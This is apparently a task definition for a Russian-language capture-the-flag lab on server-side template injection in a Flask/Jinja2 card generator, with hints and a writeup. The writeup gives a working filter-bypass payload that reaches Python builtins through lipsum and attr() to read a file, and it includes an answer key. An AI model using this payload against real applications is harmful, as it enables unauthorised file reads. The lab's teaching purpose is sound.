import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const templateInjection: TaskSeed = {
  id: 112,
  title: 'Шаблон, который считает',
  difficulty: 'hard',
  points: 300,
  important: false,
  status: 'active',
  description: md`
    Конструктор открыток подставляет имя получателя в шаблон Jinja2. Точнее, не подставляет, а
    **вклеивает в текст шаблона до его разбора**:

    \`\`\`python
    template = 'С праздником, ' + request.form['name'] + '!'
    return render_template_string(template)
    \`\`\`

    ### Задание

    1. Докажите, что введённый текст вычисляется, а не просто выводится.
    2. Узнайте, какие объекты доступны внутри шаблона.
    3. Прочитайте файл \`/opt/cards/flag.txt\`.

    ### Что мешает

    Фильтр не пропускает ввод, в котором есть подчёркивание, квадратная скобка или слово \`config\`.
    Фильтр смотрит только на поле \`name\`, а запрос состоит не из одного поля.

    Не запускайте на сервере ничего, кроме чтения нужного файла: процесс живёт в контейнере без прав
    записи.
  `,
  flags: [{ id: 1121, prefix: 'flag', stem: 'templates_are_code' }],
  hints: [
    {
      id: 1121,
      cost: 0,
      text: md`Отправьте \`{{ 7 * 7 }}\`. Если в открытке написано 49, вы на верном пути.`,
    },
    {
      id: 1122,
      cost: 20,
      text: md`
        Внутри шаблона доступен объект \`request\`. Значения из \`request.args\` фильтр не проверяет, а
        фильтр Jinja \`attr\` берёт свойство по имени из строки.
      `,
    },
    {
      id: 1123,
      cost: 40,
      text: md`
        Имена с подчёркиваниями передайте параметрами адреса, а до встроенных функций дойдите от любой
        функции Flask, которая доступна в шаблоне.
      `,
    },
  ],
  attachments: [],
  writeup: {
    rule: 'after_solve',
    content: md`
      \`{{ 7 * 7 }}\` превращается в 49 — перед нами **внедрение в серверный шаблон** (SSTI).

      Запрещённые символы уносим в параметры адреса, а в поле \`name\` оставляем только ссылки на них:

      \`\`\`text
      POST /card?g=__globals__&i=__getitem__&b=__builtins__&o=open&p=/opt/cards/flag.txt

      name={{ ((lipsum|attr(request.args.g)|attr(request.args.i))(request.args.b)
        |attr(request.args.i))(request.args.o)(request.args.p).read() }}
      \`\`\`

      Что здесь происходит:

      1. \`lipsum\` — обычная функция Python, у неё есть словарь глобальных имён;
      2. в нём лежат встроенные функции, среди которых \`open\`;
      3. остаётся прочитать файл.

      **Исправление** — передавать имя значением, а не куском шаблона: \`render_template('card.html',
       name=name)\`.
    `,
  },
  lab: {
    expectedSeconds: 25,
    failsFirst: true,
    lifetimeSeconds: 5400,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Конструктор открыток', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 10],
  gitlabId: 4112,
}
